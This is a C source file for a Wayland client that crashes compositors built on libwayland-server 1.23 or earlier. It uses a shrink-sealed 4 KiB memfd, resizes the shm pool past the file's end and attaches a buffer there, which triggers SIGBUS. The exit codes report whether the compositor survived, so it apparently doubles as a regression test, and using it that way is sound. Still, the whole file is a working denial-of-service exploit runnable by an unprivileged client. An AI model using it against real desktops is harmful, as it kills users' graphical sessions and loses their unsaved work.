/*
 * sealed-resize: kills a compositor built on libwayland-server <= 1.23
 * with SIGBUS, as an unprivileged client.
 *
 * It seals a 4 KiB memfd against shrinking, creates a 4 KiB wl_shm_pool on
 * it (libwayland then decides the pool can never fault and reads it
 * without its SIGBUS guard), resizes the pool to 1 MiB without growing the
 * file, and shows a 256x256 buffer at offset 512 KiB: entirely past the end
 * of the file. The compositor's first read of the buffer faults.
 *
 * Build: cc -o sealed-resize sealed-resize.c xdg-shell-protocol.c \
 *            $(pkg-config --cflags --libs wayland-client)
 * (xdg-shell-protocol.c and xdg-shell-client-protocol.h from
 *  wayland-scanner private-code / client-header of xdg-shell.xml)
 *
 * Exit status: 0 if the compositor still answers (a fixed libwayland posts
 * wl_shm.error.invalid_fd on the wl_buffer), 1 if the connection broke
 * without a protocol error (the compositor died), 2 on local errors.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>
#include <wayland-client.h>
#include "xdg-shell-client-protocol.h"

static struct wl_compositor *compositor;
static struct wl_shm *shm;
static struct xdg_wm_base *wm_base;
static bool configured, frame_done;

static void global(void *data, struct wl_registry *r, uint32_t name,
		   const char *iface, uint32_t version)
{
	if (strcmp(iface, "wl_compositor") == 0)
		compositor = wl_registry_bind(r, name, &wl_compositor_interface, 4);
	else if (strcmp(iface, "wl_shm") == 0)
		shm = wl_registry_bind(r, name, &wl_shm_interface, 1);
	else if (strcmp(iface, "xdg_wm_base") == 0)
		wm_base = wl_registry_bind(r, name, &xdg_wm_base_interface, 1);
}
static void global_remove(void *data, struct wl_registry *r, uint32_t name) {}
static const struct wl_registry_listener registry_listener = { global, global_remove };

static void ping(void *data, struct xdg_wm_base *b, uint32_t serial)
{
	xdg_wm_base_pong(b, serial);
}
static const struct xdg_wm_base_listener wm_base_listener = { ping };

static void xdg_configure(void *data, struct xdg_surface *s, uint32_t serial)
{
	xdg_surface_ack_configure(s, serial);
	configured = true;
}
static const struct xdg_surface_listener xdg_surface_listener = { xdg_configure };

static void top_configure(void *data, struct xdg_toplevel *t, int32_t w, int32_t h,
			  struct wl_array *states) {}
static void top_close(void *data, struct xdg_toplevel *t) {}
static const struct xdg_toplevel_listener toplevel_listener = { top_configure, top_close };

static void done(void *data, struct wl_callback *cb, uint32_t t)
{
	frame_done = true;
	wl_callback_destroy(cb);
}
static const struct wl_callback_listener frame_listener = { done };

/* Exit: 0 when the compositor still answers, 1 when it is gone. */
static int verdict(struct wl_display *d)
{
	int err = wl_display_get_error(d);
	const struct wl_interface *iface;
	uint32_t id, code;

	if (err == 0) {
		printf("sealed-resize: the compositor survived and posted no error\n");
		return 0;
	}
	if (err == EPROTO) {
		code = wl_display_get_protocol_error(d, &iface, &id);
		printf("sealed-resize: the compositor survived: protocol error %u on %s@%u\n",
		       code, iface ? iface->name : "?", id);
		return 0;
	}
	printf("sealed-resize: the connection broke (%s) without a protocol error: "
	       "the compositor died\n", strerror(err));
	return 1;
}

int main(void)
{
	struct wl_display *d = wl_display_connect(NULL);
	if (!d) {
		fprintf(stderr, "sealed-resize: cannot connect: %s\n", strerror(errno));
		return 2;
	}
	struct wl_registry *reg = wl_display_get_registry(d);
	wl_registry_add_listener(reg, &registry_listener, NULL);
	wl_display_roundtrip(d);
	if (!compositor || !shm || !wm_base) {
		fprintf(stderr, "sealed-resize: wl_compositor, wl_shm or xdg_wm_base missing\n");
		return 2;
	}
	xdg_wm_base_add_listener(wm_base, &wm_base_listener, NULL);

	/* The file: 4 KiB, sealed against shrinking. */
	int fd = memfd_create("sealed-resize", MFD_CLOEXEC | MFD_ALLOW_SEALING);
	if (fd < 0 || ftruncate(fd, 4096) < 0 ||
	    fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK) < 0) {
		perror("sealed-resize: memfd");
		return 2;
	}
	/* create_pool sees the seal and a file covering the pool. */
	struct wl_shm_pool *pool = wl_shm_create_pool(shm, fd, 4096);
	wl_display_roundtrip(d);
	/* The pool grows, the file does not. */
	wl_shm_pool_resize(pool, 1 << 20);
	struct wl_buffer *buf = wl_shm_pool_create_buffer(pool, 512 << 10, 256, 256, 1024,
							   WL_SHM_FORMAT_ARGB8888);

	struct wl_surface *surf = wl_compositor_create_surface(compositor);
	struct xdg_surface *xs = xdg_wm_base_get_xdg_surface(wm_base, surf);
	xdg_surface_add_listener(xs, &xdg_surface_listener, NULL);
	struct xdg_toplevel *top = xdg_surface_get_toplevel(xs);
	xdg_toplevel_add_listener(top, &toplevel_listener, NULL);
	xdg_toplevel_set_title(top, "sealed-resize");
	wl_surface_commit(surf);
	while (!configured)
		if (wl_display_dispatch(d) < 0)
			return verdict(d);

	wl_surface_attach(surf, buf, 0, 0);
	wl_surface_damage(surf, 0, 0, 256, 256);
	wl_callback_add_listener(wl_surface_frame(surf), &frame_listener, NULL);
	wl_surface_commit(surf);
	printf("sealed-resize: committed a buffer at 512 KiB of a pool on a 4 KiB sealed file\n");
	fflush(stdout);

	/* Wait up to 3 s for the frame (the compositor has read the buffer),
	 * then make sure it still answers. */
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	while (!frame_done) {
		if (wl_display_flush(d) < 0 && errno != EAGAIN)
			return verdict(d);
		struct pollfd p = { wl_display_get_fd(d), POLLIN, 0 };
		if (poll(&p, 1, 100) > 0 && wl_display_dispatch(d) < 0)
			return verdict(d);
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (now.tv_sec - start.tv_sec >= 3)
			break;
	}
	usleep(500 * 1000);
	if (wl_display_roundtrip(d) < 0)
		return verdict(d);
	return verdict(d);
}
